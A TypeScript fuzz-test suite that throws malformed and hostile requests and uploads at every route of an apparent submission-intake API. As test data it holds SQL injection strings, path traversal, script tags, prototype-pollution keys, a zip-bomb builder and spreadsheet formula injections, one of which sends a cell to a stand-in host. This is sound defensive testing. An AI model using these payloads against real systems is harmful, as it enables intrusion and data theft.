import { randomUUID } from 'node:crypto';
import { crc32, deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { neutraliseSpreadsheetCell, toCsv } from '@sbo/shared';
import { ERROR_CODES } from '@sbo/shared';
import { DEMO_PASSWORD } from '../src/seed/demo-data';
import { AUTHORIZATION_MATRIX, CALLER_EMAIL, CALLERS, type Caller } from './authorization-matrix';
import { CENSUS_HEADER, GOOD_CENSUS, JPEG, newGroupBody, PDF, PNG, setNow, userId, ZIP } from './support/intake';
import { heldSubmission } from './support/review';
import { startTestApp, type TestApp } from './support/test-app';

/** Fixed, so a failure reproduces; fast-check prints the counterexample and its path. */
const SEED = 4242;
const RUNS_PER_ROUTE = 16;
const ON_TIME = '2027-01-05T18:00:00Z';

/** The main tables: a refused request leaves every one of them as it was. */
const TABLES = ['submission', 'audit_event', 'notification', 'app_user', 'firm', 'registration', 'document', 'census', 'census_row', 'holiday', 'contact'];

/** What must never reach a client: stack frames, source paths, SQL or driver errors. */
const INTERNALS = /\bat [\w.<>]+ \(|\.(ts|js):\d+|node_modules|QueryFailedError|TypeORMError|\bSELECT\b.+\bFROM\b|\bINSERT INTO\b|\bUPDATE\b.+\bSET\b|syntax error at|violates .* constraint|relation "|invalid input syntax|out of range for type|PostgreSQL|pg_/i;

/** Who calls each route so that validation, not authorization, is what the input meets. */
const PREFERRED: Caller[] = ['lead_ca', 'admin', 'ebs', 'ga_support', 'broker_ca', 'rep_ca', 'anonymous'];
const callerFor = (op: string): Caller => {
  const { status } = AUTHORIZATION_MATRIX[op];
  return PREFERRED.find((c) => status[CALLERS.indexOf(c)] < 300)!;
};

// ---- arbitraries -------------------------------------------------------------------------------
const NASTY_STRINGS = [
  '\u0000', 'a\u0000b', "'; DROP TABLE submission; --", "' OR '1'='1", '" OR 1=1 --', '$where', '$gt', '{"$ne": null}',
  '__proto__', 'constructor', 'prototype', '../../etc/passwd', '..\\..\\boot.ini', '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?x="&A1)', '+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '%00', '%2e%2e%2f', '\uD800', '\uFFFF',
  'NaN', 'Infinity', '-0', '1e309', '9'.repeat(400), ' ', '', 'null', 'true', '[]', '{}', 'ZZZ\u202Eexe.pdf',
  '2027-02-30', '0000-00-00', '9999-12-31T99:99:99Z', 'CA;DROP', 'x'.repeat(70_000),
];
const NASTY_NUMBERS = [
  0, -1, 1.5, 2 ** 31, 2 ** 31 - 1, -(2 ** 31) - 1, 2 ** 53, Number.MAX_SAFE_INTEGER + 2, 1e21, 1e308, -1e308, 5e-324, 100_001,
];
const nastyString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);
const nastyNumber = fc.oneof(fc.constantFrom(...NASTY_NUMBERS), fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }));
const deep = (depth: number, leaf: unknown): unknown => (depth === 0 ? leaf : depth % 2 ? [deep(depth - 1, leaf)] : { a: deep(depth - 1, leaf) });
const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nastyString },
  { weight: 3, arbitrary: nastyNumber },
  { weight: 1, arbitrary: fc.constantFrom(true, false, null, [], {}, [null], { $gt: '' }, { __proto__: { admin: true } }) },
  { weight: 1, arbitrary: fc.integer({ min: 50, max: 1500 }).map((d) => deep(d, 'x')) },
  { weight: 1, arbitrary: fc.array(nastyString, { maxLength: 5 }) },
);
const nastyKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', '$where', '$gt', 'version', 'id', 'state', 'region', 'firmId', 'roles', 'active', 'a.b', ''),
  fc.string({ maxLength: 12 }),
);
const garbageBody = fc.anything({ key: nastyKey, values: [nastyValue], maxDepth: 3, maxKeys: 6 });
/** Bodies no JSON parser should turn into a 500: broken, huge literals, very deep nesting, prototype keys. */
const rawBodies = [
  '{"a":', '{', ']', 'nul', '\u0000', '"\u0000"', '{"version":1e999999}', '{"version":-1e999999}', '1e999999',
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}', '['.repeat(200_000) + ']'.repeat(200_000),
  '{"a":'.repeat(5_000) + '1' + '}'.repeat(5_000), '{"version":1,"version":2}', '\uFEFF{}', '{"x":"\\ud800"}', 'null', 'true', '12', '{"a":"\\u0000"}', '{"\\u0000":1}',
];
const rawBody = fc.constantFrom(...rawBodies);
const QUERY_KEYS = ['page', 'perPage', 'sort', 'order', 'q', 'region', 'state', 'status', 'type', 'id', 'assigneeId', 'dueBefore', 'from', 'to',
  'year', 'effectiveDate', 'resource', 'kind', 'needsAdmin', 'active', 'role', 'entityId', 'createdFrom', 'createdTo', 'groupId',
  '$where', '__proto__', 'constructor', 'a[b]', 'sort[0]'];
const QUERY_VALUES = ['1e309', '-1', '0', '1.5', '99999999999999999999', 'NaN', 'id;DROP TABLE submission', 'sideways', 'asc', 'DESC;--',
  '%00', '\u0000', "' OR 1=1--", '..%2F..', 'CA,CO', 'true', 'x'.repeat(5000), '2027-13-45', '00000000-0000-0000-0000-000000000000', ''];
const queryString = fc
  .array(fc.tuple(fc.constantFrom(...QUERY_KEYS), fc.oneof(fc.constantFrom(...QUERY_VALUES), fc.string({ maxLength: 20 }))), { minLength: 1, maxLength: 6 })
  .map((pairs) => pairs.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&'));
/** Already percent-encoded: a lone surrogate as UTF-8-like bytes (invalid UTF-8) and as JavaScript's %u escape. */
const RAW_SURROGATES = ['%ED%A0%80', 'x%ED%B0%80', '%uD800'];
const badId = fc.oneof(
  fc.constantFrom('not-a-uuid', '00000000-0000-0000-0000-000000000000', '..', '..%2F..%2Fetc%2Fpasswd', '%00', "1'%20OR%20'1'='1",
    'x'.repeat(300), '123', '-1', '1e309', '%E0%A4%A', '%C0%AE%C0%AE', 'ffffffff-ffff-ffff-ffff-ffffffffffff', ...RAW_SURROGATES),
  fc.uuid().map(String),
);

/** Values of the right type that still must not reach the database unchecked: NUL bytes, integer overflow. */
const typedNasty = (original: unknown): unknown[] =>
  typeof original === 'string'
    ? [`${original}\u0000`, `${original}'; DROP TABLE submission; --`, original + 'x'.repeat(70_000)]
    : typeof original === 'number'
      ? [2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 2, 1e300, -1, 0, 1.5]
      : typeof original === 'boolean'
        ? ['true', 0]
        : [null, 'x', {}, []];
/** Lone UTF-16 surrogates (not text): refused as a 400 naming the field wherever a string goes. */
const loneSurrogates = (original: string) => [`${original}\uD800`, `\uDC00${original}`];
/** Strings that trim to nothing: never a 500 (a database check must not be what refuses them). */
const WHITESPACE_ONLY = [' ', ' \t\n\u00A0 '];
const BOUNDARY = 'sbo-hostile-boundary';
/** One file part, then the body cut at each place a client can drop the connection or a proxy can truncate it. */
const truncatedMultipart = (): [string, Buffer][] => {
  const head = Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="form.pdf"\r\nContent-Type: application/pdf\r\n\r\n`);
  const full = Buffer.concat([head, PDF, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)]);
  return [
    ['cut after the opening boundary', full.subarray(0, BOUNDARY.length + 4)],
    ['cut in the part headers', full.subarray(0, head.length - 30)],
    ['cut in the file', full.subarray(0, head.length + 20)],
    ['cut before the closing boundary', full.subarray(0, head.length + PDF.length)],
    ['cut in the closing boundary', full.subarray(0, full.length - 6)],
  ];
};
const ESCAPED_QUERY_VALUES = ['\u0000', 'a\u0000', '1e309', '-1', '99999999999999999999', 'x'.repeat(5000), "' OR '1'='1", 'sideways', '2027-02-30'];

type Request = { kind: 'json'; body: unknown; pathIndex?: number } | { kind: 'raw'; text: string | Buffer; contentType: string } | { kind: 'query'; query: string } | { kind: 'path'; id: string } | { kind: 'mutate'; index: number; value: unknown } | { kind: 'exact'; body: unknown };

/** Every leaf and branch of a valid body, as paths, for "one field replaced by something nasty". */
function paths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (value === null || typeof value !== 'object') return [prefix];
  const keys = Array.isArray(value) ? value.map((_, i) => i) : Object.keys(value);
  return [...(prefix.length ? [prefix] : []), ...keys.flatMap((k) => paths((value as Record<string, unknown>)[k as string], [...prefix, k]))];
}
function replaced(body: unknown, path: (string | number)[], next: unknown): unknown {
  const copy = structuredClone(body) as Record<string | number, unknown>;
  let node = copy;
  path.slice(0, -1).forEach((k) => (node = node[k] as Record<string | number, unknown>));
  node[path[path.length - 1]] = next;
  return copy;
}

/** A small zip (an .xlsx is one) with the given entries; `declare` overrides the declared uncompressed sizes. */
function zip(entries: { name: string; data: Buffer; declare?: number }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const packed = deflateRawSync(e.data);
    const size = e.declare ?? e.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc32(e.data), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc32(e.data), 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += 30 + name.length + packed.length;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

describe('hostile input: every route, random and malformed requests (API)', () => {
  let t: TestApp;
  let operations: Map<string, { hasBody: boolean; multipart: boolean; query: string[] }>;
  const tokens = {} as Record<Caller, string | undefined>;
  const fx = {} as Record<string, string>;
  let seq = 0;

  const countRows = async (): Promise<Record<string, number>> => {
    const [row] = await t.dataSource.query(`SELECT ${TABLES.map((n) => `(SELECT count(*)::int FROM ${n}) AS ${n}`).join(', ')}`);
    return row;
  };

  /** Never a 500; every error in the one shape, with nothing of the server's insides. */
  function assertSafe(label: string, res: { status: number; body: unknown; text: string; headers: Record<string, string> }) {
    const where = `${label} → ${res.status} ${String(res.text).slice(0, 300)}`;
    expect([where, res.status < 500]).toEqual([where, true]);
    if (res.status >= 400) {
      const body = res.body as Record<string, unknown>;
      expect([where, typeof body.statusCode, typeof body.error, typeof body.message, typeof body.code]).toEqual([where, 'number', 'string', 'string', 'string']);
      expect([where, body.statusCode]).toEqual([where, res.status]);
      expect([where, (ERROR_CODES as readonly unknown[]).includes(body.code)]).toEqual([where, true]);
      expect([where, INTERNALS.test(res.text)]).toEqual([where, false]);
    }
  }

  /** A valid id for each path parameter of a route, as the caller would know it. */
  function validParams(path: string): Record<string, string> {
    if (path.startsWith('/api/submissions/')) return { id: fx.reviewCa };
    if (path.startsWith('/api/partner/submissions/')) return { id: fx.partnerCa };
    if (path.startsWith('/api/documents/')) return { id: fx.documentCa };
    if (path.startsWith('/api/firms/')) return { id: fx.caFirm, userId: fx.departingAdmin };
    if (path.startsWith('/api/registrations/')) return { id: fx.pendingRegistration };
    if (path.startsWith('/api/staff/')) return { id: fx.staff };
    if (path.startsWith('/api/contacts/')) return { id: fx.contact };
    if (path.startsWith('/api/holidays/')) return { id: fx.holiday };
    if (path.startsWith('/api/instruction-templates/')) return { id: fx.template };
    if (path.startsWith('/api/saved-filters/')) return { id: fx.savedFilter };
    return {};
  }

  /** A valid body per route, for "one field at a time" mutations (the version as read, where needed). */
  const template = (op: string): object | undefined =>
    ({
      'POST /api/auth/login': { email: 'nobody@example.com', password: 'not-the-password' },
      'PATCH /api/contacts/{id}': { version: 1, label: 'Quoting', email: 'quotes@example.com', phone: '855-555-0100' },
      'POST /api/staff': { email: 'fuzz.staff@example.com', name: 'Fuzz', phone: '303-555-0100', roles: ['rep'], regions: ['CA'], password: 'long-enough-1' },
      'PATCH /api/staff/{id}': { version: 1, name: 'Grace', phone: '303-555-0100', roles: ['rep'], regions: ['GA', 'MAS'] },
      'POST /api/firms/{id}/admins': { userId: fx.caDelegate, reason: 'Named', version: 1 },
      'POST /api/firms/{id}/admins/{userId}/depart': { reason: 'Left the agency', replacementUserId: fx.caDelegate, version: 1 },
      'POST /api/firms/{id}/invitations': { email: 'fuzz.invitee@golden.example.com', name: 'Invitee', role: 'DELEGATE' },
      'POST /api/invitations/accept': { token: 'a'.repeat(40), password: 'long-enough-1' },
      'POST /api/registrations': { email: 'fuzz.signup@agency.example.com', name: 'Sign Up', firmName: 'Agency', firmTaxId: '12-3456789' },
      'POST /api/registrations/{id}/approve': { firmId: fx.caFirm, firmRole: 'DELEGATE', version: 1, createFirm: { kind: 'BROKER_AGENCY', region: 'CA', name: 'New' } },
      'POST /api/registrations/{id}/reject': { reason: 'Not appointed', version: 1 },
      'POST /api/registrations/{id}/lock': { reason: 'Review', version: 1 },
      'POST /api/registrations/{id}/unlock': { reason: 'Review', version: 1 },
      'POST /api/registrations/{id}/reinvite': { reason: 'Review', version: 1 },
      'POST /api/registrations/{id}/deactivate': { reason: 'Review', version: 1 },
      'POST /api/holidays': { region: 'CA', date: '2033-05-05', name: 'Fuzz Day' },
      'POST /api/partner/submissions': newGroupBody('CA'),
      'PATCH /api/partner/submissions/{id}': { ...newGroupBody('CA'), type: undefined, version: 1 },
      'POST /api/submissions': { ...newGroupBody('CA'), channel: 'EMAIL', firmId: fx.caFirm, bypassReason: 'Keyed in from email' },
      'PATCH /api/submissions/{id}': { version: 1, reason: 'Typo', group: { name: 'X', address: { line1: '1 Main', city: 'Oakland', state: 'CA', zip: '94612' } }, plans: [{ planCode: 'CA-GOLD-500', tier: 'GOLD' }] },
      'POST /api/submissions/{id}/claim': { version: 1 },
      'POST /api/submissions/{id}/release': { version: 1 },
      'POST /api/submissions/{id}/approve': { version: 1 },
      'POST /api/submissions/{id}/assign': { version: 1, assigneeId: fx.leadCa },
      'POST /api/submissions/{id}/return': { version: 1, instructions: 'Please fix the census.' },
      'POST /api/submissions/{id}/request-items': { version: 1, items: [{ kind: 'OTHER', description: 'Wage report' }], instructions: 'Please upload it.' },
      'POST /api/submissions/{id}/refer-offline': { version: 1, reason: 'Multi-market group' },
      'POST /api/queue/next': { region: 'CA' },
      'POST /api/instruction-templates': { region: 'CA', kind: 'RETURN', title: 'Fuzz', body: 'Please fix the census rows.' },
      'PATCH /api/instruction-templates/{id}': { version: 1, kind: 'PENDING_ITEMS', title: 'Fuzz', body: 'Please upload it.' },
      'POST /api/saved-filters': { resource: 'submissions', name: 'Fuzz', filter: { region: 'CA', state: ['SUBMITTED'] } },
    })[op];

  const send = (op: string, caller: Caller, req: Request) => {
    const [method, rawPath] = op.split(' ');
    const params = validParams(rawPath);
    const info = operations.get(op)!;
    // Routes without a body act on a valid id whatever they are sent: only give them ids of nothing.
    const safeToUseValidId = method === 'GET' || info.hasBody || info.multipart;
    const path = rawPath.replace(/\{(\w+)\}/g, (_, name: string) =>
      req.kind === 'path' ? req.id : safeToUseValidId ? params[name] : randomUUID(),
    );
    let r = t.http()[method.toLowerCase() as 'get'](req.kind === 'query' ? `${path}?${req.query}` : path);
    if (tokens[caller]) r = r.set('Authorization', `Bearer ${tokens[caller]}`);
    switch (req.kind) {
      case 'json':
        return r.set('Content-Type', 'application/json').send(JSON.stringify(req.body) ?? 'null');
      case 'raw':
        return r.set('Content-Type', req.contentType).send(req.text);
      case 'mutate': {
        const body = template(op)!;
        const all = paths(body);
        return r.send(replaced(body, all[req.index % all.length], req.value) as object);
      }
      case 'exact':
        return r.send(req.body as object);
      default:
        return method === 'GET' || method === 'DELETE' ? r : r.send({});
    }
  };

  beforeAll(async () => {
    t = await startTestApp();
    setNow(t, ON_TIME);
    for (const [caller, email] of Object.entries(CALLER_EMAIL)) {
      tokens[caller as Caller] = (await t.http().post('/api/auth/login').send({ email, password: DEMO_PASSWORD })).body.accessToken;
    }
    const doc = (await t.http().get('/api/docs-json')).body as {
      paths: Record<string, Record<string, { requestBody?: { content?: object }; parameters?: { in: string; name: string }[] }>>;
    };
    operations = new Map();
    for (const [path, item] of Object.entries(doc.paths)) {
      for (const [method, operation] of Object.entries(item)) {
        const content = Object.keys(operation.requestBody?.content ?? {});
        operations.set(`${method.toUpperCase()} ${path}`, {
          hasBody: content.includes('application/json'),
          multipart: content.includes('multipart/form-data') || /\/(census|documents)$/.test(path),
          query: (operation.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name),
        });
      }
    }
    const one = async (sql: string, params: unknown[] = []) => (await t.dataSource.query(sql, params))[0].id as string;
    fx.caFirm = await one(`SELECT id FROM firm WHERE region = 'CA'`);
    fx.contact = await one(`SELECT id FROM contact ORDER BY id LIMIT 1`);
    fx.staff = await userId(t, 'rep.multi@example.com');
    fx.leadCa = await userId(t, 'lead.ca@example.com');
    fx.caDelegate = await userId(t, 'delegate1.ca@example.com');
    fx.pendingRegistration = await one(`SELECT id FROM registration WHERE status = 'PENDING' ORDER BY created_at LIMIT 1`);
    fx.holiday = await one(`SELECT id FROM holiday WHERE region = 'CA' ORDER BY date LIMIT 1`);
    fx.template = await one(`SELECT id FROM instruction_template WHERE region = 'CA' LIMIT 1`);
    fx.reviewCa = (await heldSubmission(t, 'CA', 'lead.ca@example.com')).id;
    fx.documentCa = await one(`SELECT id FROM document WHERE submission_id = $1 LIMIT 1`, [fx.reviewCa]);
    fx.partnerCa = (await t.http().post('/api/partner/submissions').set('Authorization', `Bearer ${tokens.broker_ca}`).send(newGroupBody('CA'))).body.id;
    fx.savedFilter = (await t.http().post('/api/saved-filters').set('Authorization', `Bearer ${tokens.lead_ca}`)
      .send({ resource: 'submissions', name: 'Lena', filter: { region: 'CA' } })).body.id;
    // An administrator of the CA firm who may be departed by a fuzzed but valid request.
    fx.departingAdmin = (await t.dataSource.query(
      `INSERT INTO app_user (email, name, password_hash, roles, firm_id, firm_role)
       SELECT 'fuzz.admin@golden.example.com', 'Fuzz Admin', password_hash, ARRAY['broker'], firm_id, 'ADMIN' FROM app_user WHERE email = 'broker.ca@example.com'
       RETURNING id`,
    ))[0].id;
  });
  afterAll(() => t.close());

  // Logout would end the fuzzing caller's session; it takes no input anyway.
  const fuzzed = Object.keys(AUTHORIZATION_MATRIX).filter((op) => op !== 'POST /api/auth/logout');

  it.each(fuzzed)('%s: never a 500, always the error shape, no partial write', async (op) => {
    if (!operations.has(op)) throw new Error(`${op} is not in the OpenAPI document`);
    const caller = callerFor(op);
    const [method, path] = op.split(' ');
    const takesBody = method !== 'GET' && method !== 'DELETE';
    const kinds: fc.Arbitrary<Request>[] = [
      queryString.map((query) => ({ kind: 'query' as const, query })),
    ];
    if (takesBody) {
      kinds.push(garbageBody.map((body) => ({ kind: 'json' as const, body })));
      kinds.push(rawBody.map((text) => ({ kind: 'raw' as const, text, contentType: 'application/json' })));
      kinds.push(
        fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'application/xml', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16')
          .map((contentType) => ({ kind: 'raw' as const, text: 'version=1&a[b]=c', contentType })),
      );
    }
    if (path.includes('{')) kinds.push(badId.map((id) => ({ kind: 'path' as const, id })));
    if (template(op)) kinds.push(fc.record({ index: fc.nat(), value: nastyValue }).map((m) => ({ kind: 'mutate' as const, ...m })));

    let allowed = 0;
    const before = await countRows();
    const check = async (req: Request) => {
      const res = await send(op, caller, req);
      assertSafe(`${op} as ${caller} with ${JSON.stringify(req).slice(0, 200)}`, res);
      if (res.status < 300) allowed++;
      return res;
    };

    // First the known hostile inputs, each one: raw bodies, every field of a valid body made
    // hostile in its own type, every declared query parameter with hostile values.
    if (takesBody) for (const text of rawBodies) await check({ kind: 'raw', text, contentType: 'application/json' });
    const body = template(op);
    if (body) {
      for (const at of paths(body)) {
        const original = at.reduce<unknown>((node, k) => (node as Record<string | number, unknown>)[k], body);
        for (const value of typedNasty(original)) await check({ kind: 'exact', body: replaced(body, at, value) });
        if (typeof original !== 'string') continue;
        for (const value of WHITESPACE_ONLY) await check({ kind: 'exact', body: replaced(body, at, value) });
        for (const value of loneSurrogates(original)) {
          const res = await check({ kind: 'exact', body: replaced(body, at, value) });
          const field = at.join('.');
          expect([op, field, res.status, res.body.code, Object.keys(res.body.errors ?? {})]).toEqual([op, field, 400, 'VALIDATION_FAILED', [field]]);
        }
      }
    }
    for (const name of operations.get(op)!.query) {
      for (const value of ESCAPED_QUERY_VALUES) await check({ kind: 'query', query: `${name}=${encodeURIComponent(value)}` });
      for (const value of RAW_SURROGATES) await check({ kind: 'query', query: `${name}=${value}` });
    }
    if (path.includes('{')) {
      for (const value of RAW_SURROGATES) {
        for (const id of [value, `${randomUUID()}${value}`]) {
          const res = await check({ kind: 'path', id });
          expect([op, id, res.status, [400, 404].includes(res.status)]).toEqual([op, id, res.status, true]);
        }
      }
    }
    if (takesBody && operations.get(op)!.multipart) {
      for (const [how, cut] of truncatedMultipart()) {
        const rows = await countRows();
        const res = await check({ kind: 'raw', text: cut, contentType: `multipart/form-data; boundary=${BOUNDARY}` });
        expect([op, how, res.status, res.body.code, Object.keys(res.body.errors ?? {})]).toEqual([op, how, 400, 'VALIDATION_FAILED', ['file']]);
        expect(await countRows()).toEqual(rows);
      }
    }
    await fc.assert(
      fc.asyncProperty(fc.oneof(...kinds), async (req) => void (await check(req))),
      { numRuns: RUNS_PER_ROUTE, seed: SEED, endOnFailure: true },
    );
    // Nothing refused wrote anything (failed logins are audited on purpose: only that table may grow).
    if (allowed === 0) {
      const after = await countRows();
      if (op === 'POST /api/auth/login') after.audit_event = before.audit_event;
      expect(after).toEqual(before);
    }
  });

  describe('files', () => {
    let draft: string;
    const upload = (what: 'census' | 'documents', content: Buffer, fileName: string, kind?: string) => {
      let r = t.http().post(`/api/partner/submissions/${draft}/${what}`).set('Authorization', `Bearer ${tokens.broker_ca}`);
      if (kind) r = r.field('kind', kind);
      return r.attach('file', content, fileName);
    };
    const censusRows = async () => (await t.dataSource.query(`SELECT count(*)::int AS n FROM census_row`))[0].n as number;
    const documents = async () => (await t.dataSource.query(`SELECT count(*)::int AS n FROM document`))[0].n as number;

    beforeAll(async () => {
      draft = (await t.http().post('/api/partner/submissions').set('Authorization', `Bearer ${tokens.broker_ca}`).send(newGroupBody('CA'))).body.id;
    });

    it.each<[string, Buffer, string]>([
      ['a PNG named .csv', PNG, 'census.csv'],
      ['a PDF named .csv', PDF, 'census.csv'],
      ['a JPEG named .xlsx', JPEG, 'census.xlsx'],
      ['a PNG with its own name', PNG, 'photo.png'],
      ['binary noise', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)), 'census.csv'],
      ['a zip that is not a workbook', zip([{ name: 'hello.txt', data: Buffer.from('hi') }]), 'census.xlsx'],
      ['a truncated zip', zip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.from('<x/>') }]).subarray(0, 40), 'census.xlsx'],
      ['a NUL-laden CSV', Buffer.from(`${CENSUS_HEADER}\nE1\u0000,EMPLOYEE,A\u0000n,Lee,1980-01-02,F,94612\n`), 'census.csv'],
    ])('refuses %s as a census with 400 in the error shape, and keeps nothing', async (_, content, fileName) => {
      const rows = await censusRows();
      const res = await upload('census', content, fileName);
      assertSafe(`census ${fileName}`, res);
      expect([400, 415, 422]).toContain(res.status);
      expect(await censusRows()).toBe(rows);
    });

    it('refuses a workbook that declares gigabytes once inflated (zip bomb guard), before inflating it', async () => {
      const bomb = zip([
        { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
        { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(1024 * 1024, 0x20), declare: 0xfffffff0 },
      ]);
      const started = Date.now();
      const res = await upload('census', bomb, 'census.xlsx');
      assertSafe('zip bomb', res);
      expect(res.status).toBe(400);
      expect(res.body.errors.file).toMatch(/too large once uncompressed/);
      expect(Date.now() - started).toBeLessThan(5000);
    });

    it('refuses an honest workbook that inflates past the limit (150 MB of one sheet in a small zip)', async () => {
      const big = zip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(150 * 1024 * 1024, 0x20) }]);
      expect(big.length).toBeLessThan(1024 * 1024);
      const res = await upload('census', big, 'census.xlsx');
      assertSafe('inflating workbook', res);
      expect(res.status).toBe(400);
    });

    it.each<[string, Buffer, string]>([
      ['text named .pdf', Buffer.from('just some text, not a PDF'), 'form.pdf'],
      ['HTML named .pdf', Buffer.from('<html><script>alert(1)</script></html>'), 'form.pdf'],
      ['a CSV', Buffer.from(GOOD_CENSUS), 'census.csv'],
      ['a zip named .png', zip([{ name: 'a.txt', data: Buffer.from('a') }]), 'photo.png'],
    ])('refuses %s as a document (the content decides, not the name) and keeps nothing', async (_, content, fileName) => {
      const before = await documents();
      const res = await upload('documents', content, fileName, 'SIGNED_APPLICATION');
      assertSafe(`document ${fileName}`, res);
      expect([400, 415, 422]).toContain(res.status);
      expect(await documents()).toBe(before);
    });

    it.each(['census', 'documents'] as const)('refuses a %s upload over 10 MB with 413 in the error shape, keeping nothing', async (what) => {
      const [rows, docs] = [await censusRows(), await documents()];
      const big = Buffer.concat([PDF, Buffer.alloc(10 * 1024 * 1024 + 1024, 0x20)]);
      const res = await upload(what, big, what === 'census' ? 'census.csv' : 'form.pdf', what === 'documents' ? 'SIGNED_APPLICATION' : undefined);
      expect(res.status).toBe(413);
      expect(res.body).toMatchObject({ statusCode: 413, code: 'PAYLOAD_TOO_LARGE', error: 'Payload Too Large', message: expect.any(String) });
      expect([await censusRows(), await documents()]).toEqual([rows, docs]);
    });

    it('keeps census cells that look like formulas as plain text, and every CSV export neutralises them', async () => {
      const formulas = ['=HYPERLINK("http://evil.example")', '+SUM(1,2)', '-2+3', '@cmd', '\t=1+1'];
      const csv = [
        CENSUS_HEADER,
        ...formulas.map((f, i) => `E${i + 1},EMPLOYEE,"${f.replaceAll('"', '""')}","${f.replaceAll('"', '""')}",1980-01-02,F,${ZIP.CA}`),
      ].join('\n');
      const res = await upload('census', Buffer.from(csv), 'census.csv');
      assertSafe('formula census', res);
      expect(res.status).toBe(201);
      // Stored and shown exactly as typed: text, never evaluated, never altered in the record.
      const census = await t.http().get(`/api/partner/submissions/${draft}/census`).set('Authorization', `Bearer ${tokens.broker_ca}`);
      const names = JSON.stringify(census.body);
      for (const f of formulas.filter((x) => !x.startsWith('\t'))) expect(names).toContain(JSON.stringify(f).slice(1, -1));

      // The shared CSV writer (the console's exports go through it) makes each of them inert.
      const [members] = [await t.dataSource.query(
        `SELECT first_name, last_name FROM census_row WHERE submission_id = $1 ORDER BY row_number`, [draft],
      )];
      expect(members.length).toBeGreaterThanOrEqual(4);
      const out = toCsv(['first_name', 'last_name'], members.map((m: { first_name: string; last_name: string }) => [m.first_name, m.last_name]));
      for (const line of out.split('\r\n').slice(1).filter(Boolean)) {
        for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')).filter(Boolean)) {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
      fc.assert(
        fc.property(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ maxLength: 30 }), (trigger, rest) => {
          expect(neutraliseSpreadsheetCell(trigger + rest)).toBe(`'${trigger}${rest}`);
          const line = toCsv(['a'], [[trigger + rest]]).split('\r\n')[1];
          expect(line.replace(/^"/, '')).toMatch(/^'/);
        }),
        { seed: SEED, numRuns: 200 },
      );
    });
  });
});
